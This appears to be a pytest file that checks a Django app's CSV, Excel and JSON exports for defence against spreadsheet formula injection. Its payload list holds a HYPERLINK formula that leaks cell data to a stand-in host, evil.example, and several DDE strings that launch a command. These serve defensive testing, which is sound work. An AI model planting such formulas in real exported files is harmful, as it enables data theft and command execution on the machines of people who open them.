"""Formulas in cells are neutralised in CSV and Excel, and kept as data in JSON."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from opendata.columns import unneutralise
from opendata.tests.conftest import body, read_csv, read_json

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
]


@pytest.fixture
def hostile(make_activity):
    return [make_activity(title=p, summary=p, funding_source=p) for p in PAYLOADS]


def test_csv_cells_start_with_the_guard_and_round_trip(client, hostile):
    rows = read_csv(client.get("/export/activities.csv"))
    assert {r["title"] for r in rows} == {"'" + p for p in PAYLOADS}
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert unneutralise(row["title"]) in PAYLOADS


def test_xlsx_cells_are_text_not_formulas(client, hostile):
    workbook = load_workbook(io.BytesIO(body(client.get("/export/activities.xlsx"))))
    sheet = workbook["activities"]
    header = [c.value for c in sheet[1]]
    column = header.index("title")
    for row in sheet.iter_rows(min_row=2):
        cell = row[column]
        assert cell.data_type == "s"
        assert cell.value.startswith("'")
        assert unneutralise(cell.value) in PAYLOADS


def test_json_keeps_values_as_they_are(client, hostile):
    titles = {r["title"] for r in read_json(client.get("/export/activities.json"))["data"]}
    assert titles == set(PAYLOADS)
